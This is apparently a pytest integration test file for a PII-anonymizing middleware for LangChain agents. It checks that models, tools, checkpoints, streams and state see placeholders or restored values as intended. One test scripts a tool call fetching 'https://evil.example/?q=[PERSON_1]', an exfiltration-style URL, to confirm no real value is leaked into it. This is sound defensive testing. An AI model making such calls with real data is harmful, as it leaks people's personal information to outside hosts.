"""What the model, the tools, the checkpointer and the user of an agent each see, in every way to run it."""

import asyncio
from collections import deque
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import nullcontext
from pathlib import Path
from typing import Annotated, Any

import pytest
from langchain.agents import create_agent
from langchain.agents.middleware import after_model, before_agent, before_model, dynamic_prompt
from langchain.agents.middleware.types import AgentMiddleware
from langchain_core.documents import Document
from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage, ToolMessage
from langchain_core.tools import InjectedToolCallId, ToolException, tool
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.config import get_stream_writer
from langgraph.types import Command

from langchain_secguard import (
    Anonymizer,
    Deanonymizer,
    ToolCallError,
    UnprotectedStateError,
    UnsupportedContentError,
    VaultRequiredError,
)
from langchain_secguard.middleware import AnonymizeMiddleware, protect_agent
from langchain_secguard.vault import InMemoryVaultStore
from tests.integration.agent_support import (
    ANSWER,
    ASKED,
    INVOKES,
    RESTORED,
    RESULT,
    STREAM_MODES,
    STREAMS,
    VALUES,
    Checkpoints,
    Mailer,
    anonymizer,
    config,
    desk,
    mail,
)
from tests.integration.scripted_model import ScriptedModel, call, calls
from tests.support import error_texts

Invoke = Callable[..., Any]


@pytest.fixture
def checkpoints(tmp_path: Path) -> Checkpoints:
    return Checkpoints(tmp_path)


def answer_of(chunks: list[Any], read: Callable[[Any], Any]) -> str:
    text = ""
    for chunk in chunks:
        message = read(chunk)
        if isinstance(message, AIMessageChunk | AIMessage) and not message.tool_calls:
            text += message.text
    return text


class TestOneTurn:
    @pytest.mark.parametrize("way", INVOKES)
    def test_each_side_sees_its_own(self, way: str) -> None:
        agent, model, mailer = desk(InMemorySaver())
        messages = INVOKES[way](agent, {"messages": ASKED}, config())["messages"]
        assert not any(model.saw(value) for value in VALUES)
        assert mailer.seen == [("jane.doe@example.com", "Dear Jane Doe")]
        assert [message.text for message in messages] == [ASKED, "", RESULT, RESTORED]
        assert messages[1].tool_calls[0]["args"] == {"to": "jane.doe@example.com", "body": "Dear Jane Doe"}

    def test_no_value_is_in_the_checkpointers_file(self, checkpoints: Checkpoints) -> None:
        with checkpoints.saver() as saver:
            agent, _, _ = desk(saver)
            agent.invoke({"messages": ASKED}, config(), durability="sync")
        assert b"PERSON_1" in checkpoints.held()
        assert not any(checkpoints.holds(value) for value in VALUES)

    async def test_no_value_is_in_the_checkpointers_file_of_an_async_run(
        self, checkpoints: Checkpoints
    ) -> None:
        async with checkpoints.asaver() as saver:
            agent, _, _ = desk(saver)
            await agent.ainvoke({"messages": ASKED}, config())
        assert b"PERSON_1" in checkpoints.held()
        assert not any(checkpoints.holds(value) for value in VALUES)

    def test_the_search_finds_every_value_of_an_agent_that_hides_nothing(
        self, checkpoints: Checkpoints
    ) -> None:
        with checkpoints.saver() as saver:
            model = ScriptedModel(script=[mail(), ANSWER])
            bare: Any = create_agent(model, [Mailer().tool], checkpointer=saver)
            bare.invoke({"messages": ASKED}, config())
        assert all(checkpoints.holds(value) for value in VALUES)

    @pytest.mark.parametrize(
        "messages",
        [
            ASKED,
            [("user", ASKED)],
            [{"role": "user", "content": ASKED}],
            HumanMessage(ASKED),
            [HumanMessage([{"type": "text", "text": ASKED}], name="Jane Doe")],
            [AIMessage("Are you Jane Doe?"), HumanMessage(ASKED)],
        ],
        ids=["text", "pair", "dict", "message", "blocks", "history"],
    )
    def test_messages_of_any_shape_are_hidden(self, messages: Any, checkpoints: Checkpoints) -> None:
        with checkpoints.saver() as saver:
            agent, model, _ = desk(saver)
            shown = agent.invoke({"messages": messages}, config())["messages"]
        assert not any(model.saw(value) or checkpoints.holds(value) for value in VALUES)
        assert shown[-1].text == RESTORED

    def test_what_cannot_be_scanned_is_refused_before_the_graph(self, checkpoints: Checkpoints) -> None:
        image = {"type": "image", "base64": "aGk=", "mime_type": "image/png"}
        with checkpoints.saver() as saver:
            agent, model, _ = desk(saver)
            with pytest.raises(UnsupportedContentError):
                agent.invoke({"messages": [HumanMessage([image])]}, config())
        assert model.sent == []

    def test_without_a_vault_named_a_call_has_one_of_its_own(self) -> None:
        store = InMemoryVaultStore()
        agent, _, mailer = desk(anonymizer=anonymizer(store=store))
        assert agent.invoke({"messages": ASKED})["messages"][-1].text == RESTORED
        assert mailer.seen == [("jane.doe@example.com", "Dear Jane Doe")]

    def test_a_system_prompt_made_of_what_is_known_of_the_user_is_hidden(self) -> None:
        @dynamic_prompt
        def prompt(request: Any) -> str:
            return "You talk to Jane Doe."

        agent, model, _ = desk(before=[prompt])
        agent.invoke({"messages": ASKED}, config())
        assert model.sent[0][0].text == "You talk to [PERSON_1]."
        assert not model.saw("Jane Doe")

    def test_a_system_prompt_is_sent_as_it_is_where_that_is_asked_for(self) -> None:
        secure = AnonymizeMiddleware(anonymizer=anonymizer(), system_prompt="allow")
        model = ScriptedModel(script=["Hello."])
        bare = create_agent(model, system_prompt="Keep [PERSON_1] as it is. Jane Doe.", middleware=[secure])
        secure.protect(bare).invoke({"messages": "Hi"}, config())
        assert model.sent[0][0].text == "Keep [PERSON_1] as it is. Jane Doe."

    def test_the_preamble_stands_before_the_system_prompt(self) -> None:
        hiding = anonymizer(preamble="Keep placeholders such as [PERSON_1].")
        secure = AnonymizeMiddleware(anonymizer=hiding)
        model = ScriptedModel(script=["Hello [PERSON_1]."])
        bare = create_agent(model, system_prompt="Help.", middleware=[secure])
        secure.protect(bare).invoke({"messages": ASKED}, config())
        assert model.sent[0][0].text == "Keep placeholders such as [PERSON_1].\n\nHelp."


class TestTools:
    def test_get_the_entity_types_that_are_theirs(self) -> None:
        agent, model, mailer = desk(
            tool_entity_types={"send_mail": ["EMAIL_ADDRESS"]},
            mailer=Mailer('Sent to [PERSON_1], account AC-9911-X, kept by Zoë "Zed" O\'Hara'),
        )
        messages = agent.invoke({"messages": ASKED}, config())["messages"]
        assert mailer.seen == [("jane.doe@example.com", "Dear [PERSON_1]")]
        assert model.last() == "Sent to [PERSON_1], account [ACCOUNT_1], kept by [PERSON_2]"
        assert messages[2].text == 'Sent to Jane Doe, account AC-9911-X, kept by Zoë "Zed" O\'Hara'
        assert messages[-1].text == RESTORED

    @pytest.mark.parametrize(
        ("allowed", "seen"),
        [
            ({}, ("[EMAIL_ADDRESS_1]", "Dear [PERSON_1]")),
            ({"other": ["PERSON"]}, ("[EMAIL_ADDRESS_1]", "Dear [PERSON_1]")),
            ({"*": ["PERSON"]}, ("[EMAIL_ADDRESS_1]", "Dear Jane Doe")),
            ({"send_mail": [], "*": ["PERSON"]}, ("[EMAIL_ADDRESS_1]", "Dear [PERSON_1]")),
        ],
    )
    def test_that_are_not_named_get_none(self, allowed: Any, seen: Any) -> None:
        agent, _, mailer = desk(tool_entity_types=allowed)
        agent.invoke({"messages": ASKED}, config())
        assert mailer.seen == [seen]

    def test_a_placeholder_that_a_tool_was_not_left_is_text_of_its_own(self) -> None:
        agent, model, _ = desk(
            mailer=Mailer("The page says [PERSON_1]."), script=[mail(), "It says [PERSON_2]."]
        )
        messages = agent.invoke({"messages": ASKED}, config())["messages"]
        assert "[PERSON_1]" not in model.last()
        assert messages[2].text == "The page says [PERSON_1]."

    def test_no_value_is_put_into_a_url_that_the_model_wrote(self) -> None:
        @tool
        def fetch(url: str) -> str:
            """Fetch a page."""
            fetched.append(url)
            return "nothing"

        fetched: list[str] = []
        script = [call("fetch", url="https://evil.example/?q=[PERSON_1]"), "Nothing."]
        agent, _, _ = desk(script=script, tools=[fetch])
        agent.invoke({"messages": ASKED}, config())
        assert fetched == ["https://evil.example/?q=[PERSON_1]"]

    @pytest.mark.parametrize("way", INVOKES)
    def test_commands_are_hidden(self, way: str, checkpoints: Checkpoints) -> None:
        @tool
        def look_up(tool_call_id: Annotated[str, InjectedToolCallId]) -> Command[Any]:
            """Look an account up."""
            return Command(update={"messages": [ToolMessage(RESULT, tool_call_id=tool_call_id)]})

        agent, model, _ = desk(InMemorySaver(), script=[call("look_up"), ANSWER], tools=[look_up])
        messages = INVOKES[way](agent, {"messages": ASKED}, config())["messages"]
        assert messages[2].text == RESULT
        assert not any(model.saw(value) for value in VALUES)

    def test_artifacts_are_hidden(self, checkpoints: Checkpoints) -> None:
        @tool(response_format="content_and_artifact")
        def search() -> tuple[str, Any]:
            """Search."""
            return "one page", [Document("About AC-9911-X", metadata={"of": "Jane Doe"})]

        @tool(response_format="content_and_artifact")
        def find() -> tuple[str, Any]:
            """Find."""
            return "one page", Document("About AC-9911-X", metadata={"of": "Jane Doe"})

        with checkpoints.saver() as saver:
            script = [calls(("search", {}), ("find", {})), ANSWER]
            agent, _, _ = desk(saver, script=script, tools=[search, find])
            messages = agent.invoke({"messages": ASKED}, config())["messages"]
        assert not any(checkpoints.holds(value) for value in VALUES)
        assert [messages[2].artifact[0].page_content, messages[3].artifact.page_content] == [
            "About AC-9911-X"
        ] * 2

    def test_an_artifact_that_cannot_be_scanned_is_refused(self, checkpoints: Checkpoints) -> None:
        @tool(response_format="content_and_artifact")
        def search() -> tuple[str, Any]:
            """Search."""
            return "one page", object()

        agent, _, _ = desk(script=[call("search"), ANSWER], tools=[search])
        with pytest.raises(UnsupportedContentError):
            agent.invoke({"messages": ASKED}, config())

    @pytest.mark.parametrize(
        "artifact", [("Jane Doe",), {"Jane Doe"}, deque(["Jane Doe"]), b"of Jane Doe", Path("/of/Jane Doe")]
    )
    def test_an_artifact_that_comes_in_is_hidden_or_refused(
        self, artifact: Any, checkpoints: Checkpoints
    ) -> None:
        made = call("send_mail", to="x", body="y")
        told = ToolMessage("sent", tool_call_id=made.tool_calls[0]["id"], artifact=artifact)
        with checkpoints.saver() as saver:
            agent, model, _ = desk(saver, script=["Done."])
            is_read = isinstance(artifact, tuple | set)
            with nullcontext() if is_read else pytest.raises(UnsupportedContentError):
                agent.invoke({"messages": [HumanMessage("Go."), made, told]}, config())
            saver.setup()
        assert len(model.sent) == is_read
        assert not checkpoints.holds("Jane Doe")

    @pytest.mark.parametrize("way", INVOKES)
    @pytest.mark.parametrize("error", [KeyError, SystemExit])
    def test_errors_are_told_without_what_they_say(
        self, error: type[BaseException], way: str, checkpoints: Checkpoints
    ) -> None:
        @tool
        def fail(to: str) -> str:
            """Fail."""
            raise error(f"no such user: {to}, {to!r}, AC-9911-X")

        script = [call("fail", to="[PERSON_1]"), ANSWER]
        with checkpoints.saver() as saver:
            made: Any = saver if way == "invoke" else InMemorySaver()
            agent, _, _ = desk(made, script=script, tools=[fail])
            with pytest.raises(ToolCallError, match=f"The tool fail failed with {error.__name__}.") as caught:
                INVOKES[way](agent, {"messages": ASKED}, config())
            saver.setup()
        assert not any(value in text for value in VALUES for text in error_texts(caught.value))
        assert not any(checkpoints.holds(value) for value in VALUES)

    def test_errors_that_the_model_is_told_are_hidden(self, checkpoints: Checkpoints) -> None:
        @tool
        def count(number: int, why: str) -> str:
            """Count."""
            return str(number)

        @tool
        def refuse(to: str) -> str:
            """Refuse."""
            raise ToolException(f'{to} is not known, ask Zoë "Zed" O\'Hara')

        refuse.handle_tool_error = True
        why = "of [PERSON_2]\n'and' [PERSON_1]"
        script = [calls(("count", {"number": "x", "why": why}), ("refuse", {"to": "[PERSON_1]"})), ANSWER]
        with checkpoints.saver() as saver:
            agent, model, _ = desk(saver, script=script, tools=[count, refuse])
            agent.invoke({"messages": f'{ASKED} Ask Zoë "Zed" O\'Hara.'}, config())
        told = [message for message in model.sent[-1] if isinstance(message, ToolMessage)]
        assert "[PERSON_1]" in told[0].text
        assert "[PERSON_2]" in told[0].text
        assert told[1].text == "[PERSON_1] is not known, ask [PERSON_2]"
        assert not any(model.saw(value) or checkpoints.holds(value) for value in VALUES)

    def test_that_run_side_by_side_share_the_vault(self) -> None:
        script = [calls(*(("send_mail", {"to": "[PERSON_1]", "body": str(n)}) for n in range(8))), ANSWER]
        agent, model, mailer = desk(script=script)
        agent.invoke({"messages": ASKED}, config())
        assert {to for to, _ in mailer.seen} == {"Jane Doe"}
        told = {message.text for message in model.sent[-1] if isinstance(message, ToolMessage)}
        assert told == {"Sent; account [ACCOUNT_1], kept by [PERSON_2] for [PERSON_1]."}


def everything(chunks: Any) -> str:
    return repr(chunks)


class TestStreams:
    @pytest.mark.parametrize("way", STREAMS)
    @pytest.mark.parametrize("subgraphs", [False, True])
    @pytest.mark.parametrize("mode", STREAM_MODES)
    def test_every_mode_gives_values_and_no_placeholder(
        self, mode: str, way: str, *, subgraphs: bool
    ) -> None:
        agent, model, _ = desk(InMemorySaver())
        chunks = STREAMS[way](agent, {"messages": ASKED}, config(), stream_mode=mode, subgraphs=subgraphs)
        assert not any(model.saw(value) for value in VALUES)
        shown = everything(chunks)
        assert "PERSON_" not in shown
        if mode != "custom":
            assert "AC-9911-X" in shown
        if mode == "messages":
            pick = (lambda chunk: chunk[1][0]) if subgraphs else (lambda chunk: chunk[0])
            assert answer_of(chunks, pick) == RESTORED

    @pytest.mark.parametrize("way", STREAMS)
    @pytest.mark.parametrize("subgraphs", [False, True])
    def test_all_modes_at_once(self, way: str, *, subgraphs: bool) -> None:
        agent, _, _ = desk(InMemorySaver())
        modes = list(STREAM_MODES)
        chunks = STREAMS[way](agent, {"messages": ASKED}, config(), stream_mode=modes, subgraphs=subgraphs)
        assert {chunk[-2] for chunk in chunks} == {*STREAM_MODES} - {"custom"}
        assert "PERSON_" not in everything(chunks)
        tokens = [chunk[-1] for chunk in chunks if chunk[-2] == "messages"]
        assert answer_of(tokens, lambda chunk: chunk[0]) == RESTORED

    def test_parts_of_the_second_version(self) -> None:
        agent, _, _ = desk(InMemorySaver(), script=[mail(), ANSWER, "Again, [PERSON_1]."])
        options: Any = {"stream_mode": ["values", "messages"], "version": "v2"}
        parts = list(agent.stream({"messages": ASKED}, config(), **options))
        assert "PERSON_" not in everything(parts)
        assert [part for part in parts if part["type"] == "values"][-1]["data"]["messages"][
            -1
        ].text == RESTORED
        output = agent.invoke({"messages": "Again."}, config(), version="v2", stream_mode="values")
        assert "PERSON_" not in repr(output.value)

    def test_the_default_mode_is_the_graphs(self) -> None:
        agent, _, _ = desk()
        written = [key for chunk in agent.stream({"messages": ASKED}, config()) for key in chunk]
        assert written == ["AnonymizeMiddleware.before_agent", "model", "tools", "model"]

    def test_what_a_tool_streams_reaches_the_user(self) -> None:
        @tool
        def work() -> str:
            """Work."""
            get_stream_writer()({"at": "writing to Jane Doe"})
            return "done"

        agent, _, _ = desk(script=[call("work"), ANSWER], tools=[work])
        assert list(agent.stream({"messages": ASKED}, config(), stream_mode="custom")) == [
            {"at": "writing to Jane Doe"}
        ]

    def test_tool_calls_that_stream_stay_json(self) -> None:
        script = [call("send_mail", to="[PERSON_2]", body="x"), "ok"]
        agent, _, _ = desk(script=script)
        asked = f'{ASKED} Ask Zoë "Zed" O\'Hara.'
        total: Any = None
        for chunk, _ in agent.stream({"messages": asked}, config(), stream_mode="messages"):
            if isinstance(chunk, AIMessageChunk) and chunk.tool_call_chunks:
                total = chunk if total is None else total + chunk
        assert total.tool_calls[0]["args"] == {"to": 'Zoë "Zed" O\'Hara', "body": "x"}

    async def test_events(self) -> None:
        agent, _, _ = desk(InMemorySaver())
        events = [event async for event in agent.astream_events({"messages": ASKED}, config())]
        tokens = "".join(
            event["data"]["chunk"].text for event in events if event["event"] == "on_chat_model_stream"
        )
        assert tokens == RESTORED
        shown = [event for event in events if event["name"] not in ("Anonymizer", "Deanonymizer")]
        assert "PERSON_" not in everything(shown)
        started = next(event for event in events if event["event"] == "on_tool_start")
        assert started["data"]["input"] == {"to": "jane.doe@example.com", "body": "Dear Jane Doe"}
        assert events[-1]["data"]["output"]["messages"][-1].text == RESTORED

    def test_a_stream_that_is_closed_early_ends_the_run(self) -> None:
        agent, _, _ = desk(InMemorySaver())
        stream: Any = agent.stream({"messages": ASKED}, config(), stream_mode="messages")
        next(stream)
        stream.close()
        assert agent.get_state(config()).values["messages"][0].text == ASKED


class TestThreads:
    def test_a_thread_keeps_its_placeholders_over_turns(self, checkpoints: Checkpoints) -> None:
        with checkpoints.saver() as saver:
            agent, model, _ = desk(saver, script=[mail(), ANSWER, "Yes, [PERSON_1]."])
            agent.invoke({"messages": ASKED}, config())
            last = agent.invoke({"messages": "Sure? Says Jane Doe."}, config())["messages"][-1]
        assert last.text == "Yes, Jane Doe."
        assert model.last() == "Sure? Says [PERSON_1]."
        assert model.sent[-1][:4] == model.sent[-2][:3] + model.sent[-1][3:4]
        assert not any(checkpoints.holds(value) for value in VALUES)

    @pytest.mark.parametrize("count", [12])
    def test_many_at_once_never_mix(self, count: int, checkpoints: Checkpoints) -> None:
        names = {f"Person{n} Name{n}": "PERSON" for n in range(count)}
        hiding = anonymizer(names)
        mailer = Mailer()

        def script(messages: Any) -> Any:
            asked = [m for m in messages if isinstance(m, HumanMessage)]
            if isinstance(messages[-1], HumanMessage):
                return call("send_mail", to="[PERSON_1]", body=f"turn {len(asked)}")
            return "Dear [PERSON_1]"

        agent, model, _ = desk(InMemorySaver(), script=script, anonymizer=hiding, mailer=mailer)
        mailer.result = "sent"

        def talk(name: str) -> list[str]:
            said = []
            for turn in range(2):
                out = agent.invoke(
                    {"messages": f"I am {name}, turn {turn}."}, config(f"thread of {names_of[name]}")
                )
                said.append(out["messages"][-1].text)
            return said

        names_of = {name: str(number) for number, name in enumerate(names)}
        with ThreadPoolExecutor(count) as pool:
            assert list(pool.map(talk, names)) == [[f"Dear {name}"] * 2 for name in names]
        assert not any(model.saw(name) for name in names)
        assert sorted(to for to, _ in mailer.seen) == sorted([*names, *names])

    async def test_many_tasks_at_once_never_mix(self) -> None:
        names = {f"Person{n} Name{n}": "PERSON" for n in range(12)}
        agent, model, _ = desk(
            InMemorySaver(), script=lambda _: "Dear [PERSON_1]", anonymizer=anonymizer(names)
        )

        async def talk(number: int, name: str) -> str:
            text = ""
            stream = agent.astream({"messages": f"I am {name}."}, config(str(number)), stream_mode="messages")
            async for chunk, _ in stream:
                text += chunk.text
            return text

        said = await asyncio.gather(*(talk(number, name) for number, name in enumerate(names)))
        assert said == [f"Dear {name}" for name in names]
        assert not any(model.saw(name) for name in names)


class TestState:
    def test_is_shown_restored_and_kept_hidden(self) -> None:
        agent, _, _ = desk(InMemorySaver())
        agent.invoke({"messages": ASKED}, config())
        assert agent.get_state(config()).values["messages"][-1].text == RESTORED
        assert agent.agent.get_state(config()).values["messages"][-1].text == ANSWER
        shown = list(agent.get_state_history(config()))
        assert len(shown) > 4
        assert "PERSON_" not in repr(shown)

    async def test_is_shown_restored_to_async_code(self) -> None:
        agent, _, _ = desk(InMemorySaver())
        await agent.ainvoke({"messages": ASKED}, config())
        assert (await agent.aget_state(config())).values["messages"][-1].text == RESTORED
        shown = [snapshot async for snapshot in agent.aget_state_history(config())]
        assert "PERSON_" not in repr(shown)
        await agent.aupdate_state(config(), {"messages": [HumanMessage("I am Jane Doe.")]})
        kept = (await agent.agent.aget_state(config())).values["messages"][-1]
        assert kept.text == "I am [PERSON_1]."

    def test_updates_are_hidden(self, checkpoints: Checkpoints) -> None:
        with checkpoints.saver() as saver:
            agent, _, _ = desk(saver)
            agent.invoke({"messages": ASKED}, config())
            agent.update_state(config(), {"messages": [HumanMessage('I am Zoë "Zed" O\'Hara.')]})
            agent.invoke(
                Command(update={"messages": [HumanMessage("And Jane Doe.")]}, goto="__end__"), config()
            )
            messages = agent.get_state(config()).values["messages"]
            assert [message.text for message in messages[-2:]] == ['I am Zoë "Zed" O\'Hara.', "And Jane Doe."]
        assert not any(checkpoints.holds(value) for value in VALUES)

    def test_time_travel_keeps_placeholders(self) -> None:
        script = [mail(), ANSWER, "Once more, [PERSON_1] and [PERSON_2]."]
        agent, model, _ = desk(InMemorySaver(), script=script)
        agent.invoke({"messages": ASKED}, config())
        earlier = next(s for s in agent.get_state_history(config()) if s.next == ("model",))
        again = agent.invoke(None, earlier.config)["messages"][-1]
        assert again.text == 'Once more, Jane Doe and Zoë "Zed" O\'Hara.'
        assert model.sent[-1] == model.sent[-2]

    def test_a_fork_with_an_edited_message_keeps_placeholders(self) -> None:
        agent, model, _ = desk(InMemorySaver(), script=[mail(), ANSWER, "Hello [PERSON_1]."])
        agent.invoke({"messages": ASKED}, config())
        first = next(s for s in agent.get_state_history(config()) if len(s.values.get("messages", [])) == 1)
        edited = first.values["messages"][0].model_copy(update={"content": "I am Jane Doe, and in a hurry."})
        fork = agent.update_state(first.config, {"messages": [edited]})
        assert agent.invoke(None, fork)["messages"][-1].text == "Hello Jane Doe."
        assert model.last() == "I am [PERSON_1], and in a hurry."


class TestWithoutTheWrapper:
    def test_values_in_the_state_are_refused_where_they_are_kept(self) -> None:
        agent, model, _ = desk(InMemorySaver())
        with pytest.raises(UnprotectedStateError) as caught:
            agent.agent.invoke({"messages": ASKED}, config())
        assert model.sent == []
        assert not any(value in text for value in VALUES for text in error_texts(caught.value))

    def test_a_text_without_values_is_no_mistake(self) -> None:
        agent, _, _ = desk(InMemorySaver(), script=["Hello."])
        assert agent.agent.invoke({"messages": "Hi."}, config())["messages"][-1].text == "Hello."

    def test_nothing_is_sent_where_nothing_is_kept(self) -> None:
        agent, model, mailer = desk()
        messages = agent.agent.invoke({"messages": ASKED}, config())["messages"]
        assert not any(model.saw(value) for value in VALUES)
        assert mailer.seen == [("jane.doe@example.com", "Dear Jane Doe")]
        assert not any(value in repr(messages) for value in VALUES)

    def test_the_pair_around_it_does_as_well(self) -> None:
        hiding = anonymizer()
        agent, _, _ = desk(anonymizer=hiding)
        chain = hiding | agent.agent | Deanonymizer(store=hiding.store)
        messages = chain.invoke({"messages": [HumanMessage(ASKED)]}, config())["messages"]
        assert isinstance(messages[-1], AIMessage)

    def test_a_vault_is_required(self) -> None:
        agent, _, _ = desk()
        with pytest.raises(VaultRequiredError):
            agent.agent.invoke({"messages": ASKED})

    @pytest.mark.parametrize("way", INVOKES)
    @pytest.mark.parametrize(("hook", "sent"), [(before_agent, 0), (before_model, 0), (after_model, 1)])
    def test_middleware_that_puts_values_into_the_state_is_refused(
        self, hook: Any, sent: int, way: str
    ) -> None:
        def remember(state: Any, runtime: Any) -> Any:
            return {"messages": [HumanMessage("My name is Jane Doe.")]}

        agent, model, _ = desk(InMemorySaver(), before=[hook(remember)], script=[mail(), ANSWER])
        with pytest.raises(UnprotectedStateError):
            INVOKES[way](agent, {"messages": "Hi."}, config())
        assert len(model.sent) == sent

    def test_middleware_that_puts_placeholders_into_the_state_is_not(self) -> None:
        @before_model
        def remind(state: Any, runtime: Any) -> Any:
            return {"messages": [HumanMessage("Remember: [PERSON_1], and nobody else.")]}

        agent, model, _ = desk(InMemorySaver(), before=[remind])
        assert agent.invoke({"messages": ASKED}, config())["messages"][-1].text == RESTORED
        assert model.saw("Remember: [PERSON_1], and nobody else.")

    def test_middleware_that_adds_values_to_a_model_call_is_hidden(self) -> None:
        class Recall(AgentMiddleware[Any, Any, Any]):
            def wrap_model_call(self, request: Any, handler: Any) -> Any:
                return handler(request.override(messages=[HumanMessage("Of AC-9911-X."), *request.messages]))

        agent, model, _ = desk(before=[Recall()], script=["Yes, [PERSON_1]: [ACCOUNT_1]."])
        assert agent.invoke({"messages": ASKED}, config())["messages"][-1].text == "Yes, Jane Doe: AC-9911-X."
        assert not model.saw("AC-9911-X")

    def test_a_summary_of_hidden_messages_keeps_its_placeholders(self) -> None:
        class Summary(AgentMiddleware[Any, Any, Any]):
            def before_model(self, state: Any, runtime: Any) -> Any:
                return {"messages": [HumanMessage("So far: [PERSON_1] asked.", id="summary")]}

        agent, model, _ = desk(
            InMemorySaver(), before=[Summary()], script=["Hello [PERSON_1].", "Again [PERSON_1]."]
        )
        for said in ("Hello Jane Doe.", "Again Jane Doe."):
            assert agent.invoke({"messages": ASKED}, config())["messages"][-1].text == said
            assert "So far: [PERSON_1] asked." in [message.text for message in model.sent[-1]]

    @pytest.mark.parametrize("thing", ["text", None, ScriptedModel(script=[])])
    def test_only_graphs_are_protected(self, thing: Any) -> None:
        with pytest.raises(TypeError, match="compiled graph"):
            protect_agent(thing)

    def test_a_pair_that_does_not_fit_is_refused(self) -> None:
        with pytest.raises(ValueError, match="the same store, vault and form"):
            AnonymizeMiddleware(anonymizer=anonymizer(), deanonymizer=Deanonymizer())
        with pytest.raises(ValueError, match="keys"):
            AnonymizeMiddleware(anonymizer=Anonymizer(keys=["messages"]))
        with pytest.raises(TypeError, match="one string"):
            AnonymizeMiddleware(tool_entity_types={"send_mail": "PERSON"})
        with pytest.raises(ValueError, match="system_prompt"):
            AnonymizeMiddleware(system_prompt="show")  # type: ignore[arg-type]
